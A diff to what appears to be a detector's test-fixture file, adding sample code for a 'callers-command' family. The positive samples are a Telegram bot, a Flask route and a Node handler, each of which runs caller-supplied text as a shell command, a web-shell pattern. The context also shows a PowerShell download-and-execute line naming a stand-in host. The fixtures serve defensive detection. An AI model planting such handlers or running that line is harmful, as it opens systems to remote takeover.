@@ -158,6 +158,27 @@ export const remoteCodeExamples: FamilyExamples = {
       sh("git clone https://github.com/a/b\npython setup.py"),
     ],
   },
+  "T06-callers-command": {
+    positive: [
+      {
+        "a.py":
+          "import subprocess, telebot\nbot = telebot.TeleBot(KEY)\n@bot.message_handler()\ndef run(m):\n    bot.reply_to(m, subprocess.check_output(m.text, shell=True))\n",
+      },
+      {
+        "a.py":
+          'import subprocess\nfrom flask import Flask, request\napp = Flask("a")\n@app.route("/x")\ndef x():\n    return subprocess.check_output(request.args["c"], shell=True)\n',
+      },
+      {
+        "a.js":
+          'const { exec } = require("child_process");\napp.post("/x", (req, res) => exec(req.body.c, (e, o) => res.end(o)));\n',
+      },
+    ],
+    negative: [
+      { "a.py": 'import subprocess\ndef tidy(m):\n    subprocess.run(["tidy", m.text])\n' },
+      { "a.py": "import subprocess\ndef run(command):\n    subprocess.run(command)\n" },
+      { "a.js": "const found = /a(b)/.exec(req.body.text);\n" },
+    ],
+  },
   "T06-memory-loader": {
     positive: [
       fence("powershell", "iwr https://unrelated-host.dev/a.ps1 | iex"),
